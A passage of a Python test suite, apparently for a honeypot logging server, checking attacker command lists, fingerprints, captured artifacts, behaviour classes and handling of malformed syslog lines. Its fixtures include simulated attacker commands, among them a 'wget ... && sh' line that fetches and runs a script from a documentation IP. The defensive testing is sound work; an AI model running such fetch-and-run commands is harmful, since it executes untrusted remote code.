        BASE + timedelta(seconds=s) for s in (0, 10, 20, 30, 40)
    ]
    window = get_json(client, obs.token, path, limit=2, offset=1)
    assert [c["command"] for c in window["data"]] == ["wget http://x/y", "SELECT 1"]
    assert (window["total"], window["limit"], window["offset"]) == (5, 2, 1)
    ssh = get_json(client, obs.token, path, service="ssh")
    assert [c["command"] for c in ssh["data"]] == ["whoami", "wget http://x/y", "uname -a"]
    assert get_json(client, obs.token, path, limit=200)["limit"] == 200
    for bad in ("0", "201", "x"):
        assert client.get(path, obs.token, params={"limit": bad}).status_code == 422, bad
    assert client.get(path, obs.token, params={"offset": "-1"}).status_code == 422


LIST_COMMANDS, DETAIL_COMMANDS = 1, 50  # SPEC §3's caps on the embedded lists
LIST_FINGERPRINTS, DETAIL_FINGERPRINTS = 1, 100


def test_attacker_rows_embed_newest_commands_and_fingerprints(
    obs: ObservedServer, client: ApiClient
) -> None:
    """List and detail rows carry the newest commands and fingerprints (capped) and updated_at."""
    t, ip = tag(), ip_block() + "10"
    decky = f"em{t}"
    count = DETAIL_COMMANDS + 5
    lines = [
        syslog_line(
            decky,
            "ssh",
            "command",
            {"src_ip": ip, "command": f"cmd-{i}", "user_agent": f"agent/{i}"},
            ts=BASE + timedelta(seconds=i),
        )
        for i in range(count)
    ]
    before = datetime.now(UTC) - timedelta(seconds=5)
    send_tcp(obs.syslog_port, lines)
    listed = wait_for_attacker(client, obs.token, ip, count)
    newest = [f"cmd-{i}" for i in reversed(range(count))]
    assert [c["command"] for c in listed["commands"]] == newest[:LIST_COMMANDS]
    assert listed["commands"][0] == {
        "service": "ssh",
        "decky": decky,
        "command": f"cmd-{count - 1}",
        "timestamp": listed["last_seen"],
    }
    fps = listed["fingerprints"]
    assert [f["payload"]["value"] for f in fps] == [f"agent/{i}" for i in reversed(range(count))][
        :LIST_FINGERPRINTS
    ]
    assert all(
        (f["bounty_type"], f["attacker_ip"], f["payload"]["fingerprint_type"])
        == ("fingerprint", ip, "http_useragent")
        for f in fps
    )
    assert before <= parse_ts(listed["updated_at"]) <= datetime.now(UTC) + timedelta(seconds=5)
    one = get_json(client, obs.token, f"/attackers/{listed['uuid']}")
    assert [c["command"] for c in one["commands"]] == newest[:DETAIL_COMMANDS]
    assert len(one["fingerprints"]) == min(count, DETAIL_FINGERPRINTS)
    assert one["updated_at"] == listed["updated_at"]
    assert (one["command_count"], one["bounty_count"]) == (count, count)


def test_an_attacker_page_of_fifty_stays_small_and_fast(
    obs: ObservedServer, client: ApiClient
) -> None:
    """50 busy attackers (20 commands on 20 deckies, 4 user agents, credentials each): ≤ 100 KB."""
    t, block = tag(), ip_block()
    lines = [
        syslog_line(
            f"pg{t}-{i:02d}",
            "ssh",
            "command",
            {
                "src_ip": f"{block}{a}",
                "command": f"wget http://203.0.113.{a}/x.sh -O /tmp/{i}.sh && sh /tmp/{i}.sh",
                "user_agent": f"Mozilla/5.0 (X11; Linux x86_64) scanner/{a}.{i % 4}",
                "username": "root",
                "password": f"pw{i}",
            },
            ts=BASE + timedelta(seconds=i),
        )
        for a in range(1, 51)
        for i in range(20)
    ]
    send_tcp(obs.syslog_port, lines)
    for a in (1, 50):
        wait_for_attacker(client, obs.token, f"{block}{a}", 20, timeout=30)
    params = {"search": block, "limit": "50"}
    client.get("/attackers", obs.token, params=params)  # warm the connection and the plan
    started = time.perf_counter()
    page = client.get("/attackers", obs.token, params=params)
    elapsed = time.perf_counter() - started
    assert page.status_code == 200, page.text
    assert len(page.json()["data"]) == 50
    assert all(len(a["commands"]) == LIST_COMMANDS for a in page.json()["data"])
    print("attackers page bytes", len(page.content), "seconds", round(elapsed, 3))
    assert len(page.content) <= 100 * 1024, len(page.content)
    assert elapsed < 1.0, elapsed


def test_attacker_artifacts_are_its_file_captured_rows(
    obs: ObservedServer, client: ApiClient
) -> None:
    """`/attackers/{uuid}/artifacts` lists its `file_captured` log rows newest first."""
    t, ip = tag(), ip_block() + "9"
    decky = f"ar{t}"
    captures = [
        {"stored_as": f"2026-04-10T09:00:0{i}Z_0123456789a{i}_f{i}.sh", "sha256": f"{i}" * 64,
         "size": str(100 + i), "orig_path": f"/tmp/f{i}.sh"}
        for i in range(2)
    ]  # fmt: skip
    lines = [
        syslog_line(
            decky, "ssh", "file_captured", {"src_ip": ip, **c}, ts=BASE + timedelta(seconds=i)
        )
        for i, c in enumerate(captures)
    ]
    lines.append(syslog_line(decky, "ssh", "command", {"src_ip": ip, "command": "ls"}, ts=BASE))
    send_tcp(obs.syslog_port, lines)
    attacker = wait_for_attacker(client, obs.token, ip, len(lines))
    # The logs model catches up on its own: the attacker's profile may be there first.
    wait_for_logs(client, obs.token, f"decky:{decky} event:file_captured", 2)
    listed = get_json(client, obs.token, f"/attackers/{attacker['uuid']}/artifacts")
    logs = get_json(client, obs.token, "/logs", search=f"decky:{decky} event:file_captured")
    assert set(listed) == {"total", "data"}
    assert listed["total"] == 2
    assert listed["data"] == logs["data"]
    assert [fields_of(r)["stored_as"] for r in listed["data"]] == [
        captures[1]["stored_as"],
        captures[0]["stored_as"],
    ]
    vault = get_json(client, obs.token, "/bounty", search=ip, bounty_type="artifact")
    assert sorted((b["payload"] for b in vault["data"]), key=str) == sorted(
        (
            {"stored_as": c["stored_as"], "sha256": c["sha256"], "size": int(c["size"]),
             "orig_path": c["orig_path"]}
            for c in captures
        ),
        key=str,
    )  # fmt: skip


def _steady(count: int, gap: float, jitter: float) -> list[float]:
    rng = random.Random(count)
    return [i * gap + rng.uniform(-jitter, jitter) for i in range(count)]


@pytest.mark.parametrize(
    ("expected", "offsets", "services"),
    [
        ("brute_force", _steady(10, 1.0, 0.1), ["ssh"]),
        ("scanning", _steady(6, 1.0, 0.05), ["ssh", "http", "ftp", "smb", "rdp", "telnet"]),
        ("slow_scan", _steady(5, 30.0, 2.0), ["ssh", "http"]),
        ("beaconing", _steady(6, 60.0, 1.0), ["http"]),
        ("unknown", [0.0, 1.0], ["ssh"]),
    ],
)
def test_behaviour_class(
    obs: ObservedServer,
    client: ApiClient,
    expected: str,
    offsets: list[float],
    services: list[str],
) -> None:
    """The SPEC §6 class follows from the record timestamps and services."""
    ip = ip_block() + "10"
    event = "auth" if expected == "brute_force" else "connect"
    lines = [
        syslog_line(
            f"bh{tag()}", services[i % len(services)], event,
            {"src_ip": ip, "username": "root", "password": f"pw{i}"},
            ts=BASE + timedelta(seconds=offset),
        )
        for i, offset in enumerate(offsets)
    ]  # fmt: skip
    send_tcp(obs.syslog_port, lines)
    attacker = wait_for_attacker(client, obs.token, ip, len(lines))
    behavior = attacker["behavior"]
    assert behavior["behavior_class"] == expected
    timing = behavior["timing_stats"]
    assert timing["event_count"] == len(offsets)
    gaps = [b - a for a, b in itertools.pairwise(offsets)]
    assert timing["mean_iat_s"] == pytest.approx(sum(gaps) / len(gaps), rel=1e-3)
    assert timing["duration_s"] == pytest.approx(offsets[-1] - offsets[0], rel=1e-3)
    if expected == "beaconing":
        assert behavior["beacon_interval_s"] == pytest.approx(timing["mean_iat_s"], rel=1e-3)
        assert behavior["beacon_jitter_pct"] == pytest.approx(timing["cv"] * 100, rel=1e-3)


# --- dead letters --------------------------------------------------------------------------------

GARBAGE = [
    b"garbage",
    b"<999>1 2026-04-18T02:00:00Z h app - ev - msg",
    b"<134>2 2026-04-18T02:00:00Z h app - ev - msg",
    b"<134>1 - h app - ev - no timestamp",
    b"<134>1 2026-04-18T02:00:00Z h app - ev [broken",
    b"<134>1 2026-04-18T02:00:00Z h app - ev - nul \x00 byte",
    b"\xff\xfe not utf-8",
]


def test_malformed_lines_are_dead_lettered_and_never_stop_the_collector(
    obs: ObservedServer, client: ApiClient
) -> None:
    """Garbage over UDP and both TCP framings is counted as dead letters; good lines still flow."""
    t = tag()
    before = collector_counts(client, obs.token)
    good = [syslog_line(f"g{t}-{i}", "ssh", "connect", {"run": t}) for i in range(3)]
    send_udp(obs.syslog_port, [*GARBAGE, good[0]])
    send_tcp(obs.syslog_port, [*GARBAGE, good[1]])
    too_long = b"70000 " + b"x" * 70000
    send_raw_tcp(obs.syslog_port, tcp_payload(GARBAGE, "octet") + too_long + octet_frame(good[2]))
    rows = wait_for_logs(client, obs.token, f"run:{t}", 3)
    assert {r["decky"] for r in rows} == {f"g{t}-{i}" for i in range(3)}
    dead = 3 * len(GARBAGE) + 1  # and the over-long frame

    def counted() -> dict[str, int] | None:
        counts = collector_counts(client, obs.token)
        return counts if counts["dead-lettered"] >= before["dead-lettered"] + dead else None

    after = wait_for(counted, 5, "dead letters counted")
    assert after["dead-lettered"] == before["dead-lettered"] + dead
    assert after["accepted"] == before["accepted"] + 3
    health = client.get("/health", obs.token).json()
    assert health["components"]["collector_worker"]["status"] == "ok"
    assert health["components"]["ingestion_worker"]["status"] == "ok"


# --- developer reinit ----------------------------------------------------------------------------


def test_reinit_is_forbidden_outside_developer_mode(obs: ObservedServer, client: ApiClient) -> None:
    """`DELETE /config/reinit` is 403 on a production server."""
    assert client.delete("/config/reinit", obs.token).status_code == 403


def test_reinit_purges_observations_and_a_rebuild_agrees(backend: Backend) -> None:
    """Reinit reports true counts and empties every view; new lines flow; a rebuild agrees."""
    with (
        scratch_dir("obs-reinit") as data_dir,
        observed_server(backend, data_dir, developer=True) as dev,
        dev.api() as client,
    ):
        block = ip_block()
        creds = [("root", "toor"), ("root", "toor"), ("admin", "admin")]
        lines = [
            syslog_line(
                "rd-a", "ssh", "auth", {"src_ip": block + "1", "username": u, "password": p}
            )
            for u, p in creds
        ]
        lines += [
            syslog_line("rd-b", "http", "request", {"src_ip": block + "2", "user_agent": "curl/8"}),
            syslog_line("rd-b", "http", "request", {"run": "no-attacker"}),
        ]
        send_tcp(dev.syslog_port, lines)
        wait_for_logs(client, dev.token, "", len(lines))
        wait_for(
            lambda: True if get_json(client, dev.token, "/bounty")["total"] == 3 else None,
            10,
            "three bounties",
        )
        wait_for_attacker(client, dev.token, block + "2", 1)

        response = client.delete("/config/reinit", dev.token)
        assert response.status_code == 200, response.text
        assert response.json() == {"message": "Data purged", "deleted": {"logs": 5, "bounties": 3}}
        assert get_json(client, dev.token, "/logs")["total"] == 0
        assert get_json(client, dev.token, "/logs")["data"] == []
        assert get_json(client, dev.token, "/bounty")["total"] == 0
        assert get_json(client, dev.token, "/attackers")["total"] == 0
        assert get_json(client, dev.token, "/logs/histogram") == []
        stats = get_json(client, dev.token, "/stats")
        assert (stats["total_logs"], stats["unique_attackers"]) == (0, 0)

        send_udp(dev.syslog_port, [syslog_line("rd-c", "ftp", "connect", {"src_ip": block + "3"})])
        after = wait_for_logs(client, dev.token, "", 1)
        attackers = wait_for_attacker(client, dev.token, block + "3", 1)
        assert [r["decky"] for r in after] == ["rd-c"]
        assert get_json(client, dev.token, "/stats")["total_logs"] == 1

        assert dev.server.stop() == 0
        rebuilt = dev.server.run_cli("projections", "rebuild")
        assert rebuilt.returncode == 0, rebuilt.stderr
        dev.restart()
        assert get_json(client, dev.token, "/logs")["data"] == after
        assert get_json(client, dev.token, "/bounty")["total"] == 0
        assert get_json(client, dev.token, "/attackers")["data"] == [attackers]
        stats = get_json(client, dev.token, "/stats")
        assert (stats["total_logs"], stats["unique_attackers"]) == (1, 1)
